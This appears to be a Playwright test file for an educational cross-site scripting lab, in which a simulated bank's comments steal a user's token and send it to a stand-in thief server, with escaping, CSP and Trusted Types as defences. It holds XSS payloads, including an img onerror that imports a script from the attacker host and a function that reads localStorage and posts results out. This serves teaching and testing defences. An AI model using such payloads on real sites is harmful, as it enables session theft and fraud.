import { expect, type Page } from '@playwright/test';
import * as z from 'zod';
import { newUser } from '../support/account.ts';
import {
  bankOf,
  blockWindows,
  cellOf,
  closed,
  expectOffWithoutSites,
  expectStopWhenClosed,
  openBank,
  pressForWindow,
  pressUntilClosed,
  sitesOf,
  wordsIn,
} from '../support/bank.ts';
import { signUpOnPage, storedToken, test } from '../support/browser.ts';
import { expectAnswer } from '../support/course.ts';
import {
  expectAccessible,
  expectCompleted,
  expectFitAndAccessible,
  guess,
  openStep,
  resetLab,
} from '../support/lab.ts';
import { stack } from '../support/stack.ts';

// The whole lab with real windows: each comment is stored at the bank, and runs in a page of the bank’s origin.

const sites = sitesOf();
const address = '/labs/xss';
test.use({ contextOptions: { reducedMotion: 'reduce' } });

const defences = ['none', 'escape', 'csp', 'trusted-types'] as const;
/** The outcomes in Chromium. One row for each comment and place of the token, one word for each defence. */
const expected = {
  'script.storage': ['token used', 'shown as text', 'CSP', 'Trusted Types'],
  'script.memory': ['token used', 'shown as text', 'CSP', 'Trusted Types'],
  'script.cookie': ['money moved', 'shown as text', 'CSP', 'Trusted Types'],
  'image.storage': ['no token', 'shown as text', 'no token', 'Trusted Types'],
  'image.memory': ['no token', 'shown as text', 'no token', 'Trusted Types'],
  'image.cookie': ['money moved', 'shown as text', 'money moved', 'Trusted Types'],
} as const;
const words = Object.fromEntries(
  Object.entries(expected).flatMap(([row, cells]) =>
    cells.map((word, index) => [`${row}.${defences[index] ?? ''}`, word]),
  ),
);

const matrix = (page: Page) => page.getByRole('table', { name: 'Places of the token and defences' });

const Seen = z.object({
  seen: z.array(z.object({ kind: z.string(), text: z.string(), origin: z.string() })),
});

/** The bank that the page opened, and what the thief’s server has. */
function watchSites(page: Page) {
  const bank = bankOf(page);
  return {
    ...bank,
    seen: async () => {
      const answer = await page.request.get(`${sites.attacker}/seen?student=${bank.student()}`);
      return Seen.parse(await answer.json()).seen;
    },
  };
}

/** Publishes the comment and reads it as Ada, as in step 2. Both windows close themselves. */
async function publishAndRead(page: Page): Promise<void> {
  await pressUntilClosed(page, 'Publish the comment');
  await pressUntilClosed(page, 'Read the comments as Ada');
}

async function stealToken(page: Page): Promise<void> {
  await publishAndRead(page);
  const screen = await pressForWindow(page, 'Open the thief’s screen');
  await screen.getByText('Answer of the bank: 200').waitFor();
  await expectAnswer(page);
}

/** Steals the token, and opens step 4. */
async function openMatrix(page: Page): Promise<void> {
  await page.goto(address);
  await stealToken(page);
  await openStep(page, 'Break it');
}

test('a script in a comment steals the token, and the thief’s server uses it while no window of Ada is open', async ({
  page,
  context,
}) => {
  const { arrivals, seen } = watchSites(page);
  await page.goto(address);
  await guess(page, 'Nothing: a page can send data only to its own site');
  await expectAccessible(page, 'before the run');
  await expect(page.getByLabel('Mallory’s comment')).toHaveValue(/localStorage\.getItem\('bank-token'\)/);

  await publishAndRead(page);
  const facts = page.getByRole('region', { name: 'What the thief has' });
  await expect(facts).toContainText(new URL(sites.attacker).host);
  // The facts have the port of the thief’s server, which may contain 200.
  await expect(facts).not.toContainText(/\b200\b/);
  const [stolen, ...others] = await seen();
  expect(others).toEqual([]);
  expect(stolen).toMatchObject({ kind: 'collect', origin: sites.bank });
  expect(stolen?.text).toMatch(/^[\w-]{86}$/);
  // The windows of the bank are closed: only the page of the lab is open.
  expect(context.pages()).toHaveLength(1);
  await expect(page.getByText(/^(Right answer|You were right)/)).toHaveCount(0);

  const screen = await pressForWindow(page, 'Open the thief’s screen');
  await expect(screen.getByRole('listitem').first()).toContainText(stolen?.text ?? 'no token');
  await expect(screen.getByRole('listitem').last()).toContainText('Answer of the bank: 200');
  await expect(screen.getByRole('listitem').last()).toContainText('"user":"ada"');

  await expectAnswer(page);
  const replay = (await arrivals()).at(-1);
  expect(replay).toMatchObject({
    accepted: true,
    status: 200,
    user: 'ada',
    authorization: true,
    cookies: [],
  });
  // No browser sent this request.
  expect([replay?.fetchSite, replay?.referer, replay?.origin]).toEqual([undefined, undefined, undefined]);
  await expect(facts).toContainText('GET /me, Bearer …');
  await expect(facts).toContainText('200 user ada');
  await expect(page.getByRole('region', { name: 'Right answer' })).toContainText(
    'works on the thief’s server',
  );
  await expect(page.getByRole('figure')).toContainText('Ada’s token');
  await expectFitAndAccessible(page);
  await resetLab(page);
  await expect(facts).not.toContainText(/\b200\b/);
});

test('a run of all comments fills each cell in less than a minute, with what arrived at the bank and at the thief', async ({
  page,
  watched,
}) => {
  const { arrivals, seen } = watchSites(page);
  await openMatrix(page);
  expect(new Set(Object.values(await wordsIn(matrix(page))))).toEqual(new Set(['not tried']));
  const before = (await seen()).length;

  const started = Date.now();
  const runner = await pressForWindow(page, 'Run all 24');
  await expect(page.getByText(/^24 tried: /)).toBeVisible({ timeout: 60_000 });
  expect(Date.now() - started).toBeLessThan(60_000);
  await closed(runner);
  expect(await wordsIn(matrix(page))).toEqual(words);
  await expect(page.getByText('24 tried: Ada lost something in 5.')).toBeVisible();

  // The screen agrees with the requests that arrived.
  // The windows of step 2 had the label of the first cell, too.
  const received = (await arrivals()).filter(({ atMs }) => atMs >= started);
  for (const [mark, word] of Object.entries(words)) {
    const own = received.filter((arrival) => arrival.mark === mark);
    const transfer = own.find(({ path }) => path.endsWith('/transfer'));
    const replay = own.find(({ fetchSite }) => fetchSite === undefined);
    expect(
      own.filter(({ report }) => report !== undefined),
      mark,
    ).toHaveLength(1);
    expect(replay?.accepted, mark).toBe(word === 'token used' ? true : undefined);
    expect(transfer?.accepted === true, mark).toBe(word === 'money moved');
    if (word === 'money moved') expect(transfer?.cookies, mark).toEqual(['bank']);
    if (word === 'no token') expect(transfer, mark).toMatchObject({ status: 401, cookies: [] });
    if (mark.startsWith('script.cookie')) expect(replay, mark).toBeUndefined();
  }
  // The thief received two tokens, and used both: none with a policy, with escaping, or out of the HttpOnly cookie.
  const kinds = (await seen()).slice(before).map(({ kind }) => kind);
  expect(kinds).toEqual(['collect', 'replay', 'collect', 'replay']);
  await expectCompleted(page);
  await expectAccessible(page, 'after all comments');
  expectPolicyReports(watched, ['script-src-attr', 'require-trusted-types-for']);
});

test('a click on a cell runs one comment, explains its outcome, and leads to the code of its switch', async ({
  page,
  watched,
}) => {
  await openMatrix(page);
  const selected = page.getByRole('region', { name: 'Selected cell' });

  await cellOf(page, 'script.cookie.none').click();
  await expect(selected).toContainText('The thief has no token');
  await expect(page.getByRole('figure')).toContainText('Ada € 900');
  await expect(page.getByRole('figure')).not.toContainText('token in page');
  await expect(cellOf(page, 'script.cookie.none')).toHaveAccessibleName(/: money moved$/);
  await expect(cellOf(page, 'script.cookie.csp')).toHaveAccessibleName(/: not tried$/);
  await expectCompleted(page);

  await cellOf(page, 'script.memory.none').click();
  await expect(selected).toContainText('It replaced fetch');
  // The comment is published again, in a bank that is as at the start.
  await expect(page.getByRole('figure')).toContainText('Ada € 1000');
  await expect(page.getByRole('figure')).toContainText('token in page');
  await expect(selected).toContainText('200, user ada');

  await cellOf(page, 'image.cookie.csp').click();
  await expect(selected).toContainText('The image caused a request');
  await selected.getByRole('button', { name: 'Code of this defence' }).click();
  const source = page.getByLabel('Source: nginx/bank.conf');
  await expect(source.locator('[data-marked="true"]').first()).toContainText('$bank_csp');
  await expect(source).toBeInViewport();
  expectPolicyReports(watched, []);
});

test('a student can change a comment: its cells are empty again, and the changed comment is what runs', async ({
  page,
}) => {
  await openMatrix(page);
  await page.getByRole('group', { name: 'Comment' }).getByRole('button', { name: 'Image' }).click();
  await cellOf(page, 'image.cookie.none').click();
  await expect(cellOf(page, 'image.cookie.none')).toHaveAccessibleName(/: money moved$/);

  await page.getByLabel('Comment “Image”, which you can change').fill('<b>Nice</b> bank!');
  await expect(cellOf(page, 'image.cookie.none')).toHaveAccessibleName(/: not tried$/);
  await cellOf(page, 'image.cookie.none').click();
  await expect(cellOf(page, 'image.cookie.none')).toHaveAccessibleName(/: no effect$/);
  await cellOf(page, 'image.cookie.escape').click();
  await expect(cellOf(page, 'image.cookie.escape')).toHaveAccessibleName(/: shown as text$/);
});

test('the policies of the bank’s page are in its response, and the browser enforces them', async ({
  page,
  request,
  watched,
}) => {
  const bank = await openBank(request);
  const markup = `<img src="/none" onerror="document.title = 'stolen'"><i>slanted</i>`;
  await bank.signIn(page, { carrier: 'lax' });
  await page.getByRole('link', { name: 'Comments' }).click();
  await page.getByLabel('Your comment').fill(markup);
  await page.getByRole('button', { name: 'Publish' }).click();
  await expect(page).toHaveTitle('stolen');

  const open = async (search: string): Promise<string> => {
    const response = await page.goto(`${sites.bank}/comments/?student=${bank.student}&${search}`);
    await page.waitForLoadState('networkidle');
    return (await response?.headerValue('Content-Security-Policy')) ?? '';
  };
  const slanted = page.locator('i');

  expect(await open('csp=on')).toContain("script-src 'self'");
  await expect(slanted).toBeVisible();
  await expect(page).not.toHaveTitle('stolen');
  expectPolicyReports(watched, ['script-src-attr']);

  expect(await open('trusted-types=on')).toContain("require-trusted-types-for 'script'");
  await expect(page.getByRole('status')).toContainText('TrustedHTML');
  await expect(slanted).toHaveCount(0);
  await expect(page).not.toHaveTitle('stolen');
  expectPolicyReports(watched, ['require-trusted-types-for']);

  expect(await open('escape=on')).toBe('');
  await expect(page.getByRole('listitem')).toHaveText(`ada: ${markup}`);
  await expect(page).not.toHaveTitle('stolen');
  expectPolicyReports(watched, []);

  expect(await open('')).toBe('');
  await expect(page).toHaveTitle('stolen');
});

test('the script of a comment reaches no page, no storage, no response and no token of the app', async ({
  page,
  context,
  request,
}) => {
  await page.goto(stack.baseUrl);
  await signUpOnPage(page, newUser());
  const token = (await storedToken(page)) ?? '';
  expect(token).toMatch(/^[\w-]{86}$/);

  // The comment loads the rest of the script from the thief’s server, as a real comment would.
  const bank = await openBank(request);
  await context.route(`${sites.attacker}/attempts.js`, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: `export default (${attempts.toString()})('${stack.baseUrl}', '${bank.attack('/collect')}')`,
    }),
  );
  const victim = await context.newPage();
  await bank.signIn(victim, { token: 'storage' });
  await victim.getByRole('link', { name: 'Comments' }).click();
  await victim
    .getByLabel('Your comment')
    .fill(`<img src="/none" onerror="import('${sites.attacker}/attempts.js')">`);
  await victim.getByRole('button', { name: 'Publish' }).click();

  const collected = async (): Promise<string> => (await request.get(bank.attack('/seen'))).text();
  await expect.poll(collected).toContain('own token');
  const { seen } = Seen.parse(JSON.parse(await collected()));
  expect(seen).toHaveLength(1);
  expect(seen[0]?.origin).toBe(sites.bank);
  expect(JSON.parse(seen[0]?.text ?? '')).toEqual({
    // The script really runs in the bank: it has the bank’s token, and nothing else.
    'own token': 86,
    'keys in storage': 'bank-token',
    'read the app': 'TypeError',
    'read the app with cookies': 'TypeError',
    'the app’s API on this port': '404',
    'a frame of the app': 'SecurityError',
    'the document in the frame': 'none',
  });
  expect(JSON.stringify(seen)).not.toContain(token);
});

/** Runs in the page of the bank, as a part of the comment. */
async function attempts(app: string, collect: string): Promise<void> {
  const frame = document.createElement('iframe');
  frame.src = app;
  document.body.append(frame);
  await new Promise((resolve) => frame.addEventListener('load', resolve));
  const list: Record<string, () => unknown> = {
    'own token': () => localStorage.getItem('bank-token')?.length,
    'keys in storage': () => Object.keys(localStorage).join(' '),
    'read the app': async () => (await fetch(`${app}/v1/ping`)).text(),
    'read the app with cookies': async () =>
      (await fetch(`${app}/v1/users/me`, { credentials: 'include' })).text(),
    'the app’s API on this port': async () => `${(await fetch('/v1/users/me')).status}`,
    'a frame of the app': () => frame.contentWindow?.localStorage.length,
    'the document in the frame': () => frame.contentDocument?.title ?? 'none',
  };
  const outcomes: Record<string, unknown> = {};
  for (const [name, attempt] of Object.entries(list)) {
    try {
      outcomes[name] = await attempt();
    } catch (error) {
      outcomes[name] = error instanceof Error ? error.name : 'error';
    }
  }
  await fetch(collect, { method: 'POST', mode: 'no-cors', body: JSON.stringify(outcomes) });
}

test('a run whose window is closed stops, and the cells that were not tried stay empty', async ({
  page,
  watched,
}) => {
  await openMatrix(page);
  await expectStopWhenClosed(page, {
    button: 'Run all 24',
    after: ['script.storage.escape', 'shown as text'],
    untried: 'image.cookie.none',
  });
  watched.length = 0;
});

test('without the sites, the lab states why it is off, and a blocked window has a note', async ({ page }) => {
  await page.goto(address);
  await blockWindows(page);
  const run = page.getByRole('region', { name: 'Run', exact: true });
  await page.getByRole('button', { name: 'Publish the comment' }).click();
  await expect(run).toContainText('The browser blocked the window.');
  await expectOffWithoutSites(page, address);
  await expect(page.getByRole('button', { name: 'Publish the comment' })).toBeDisabled();
});

/** Expects that the browser enforced these directives and no others, and that the pages had no other complaint. */
function expectPolicyReports(watched: string[], directives: readonly string[]): void {
  const found = watched.splice(0).map((text) => /"directive":"([^"]+)"/.exec(text)?.[1] ?? text);
  expect([...new Set(found)].sort()).toEqual([...directives].sort());
}
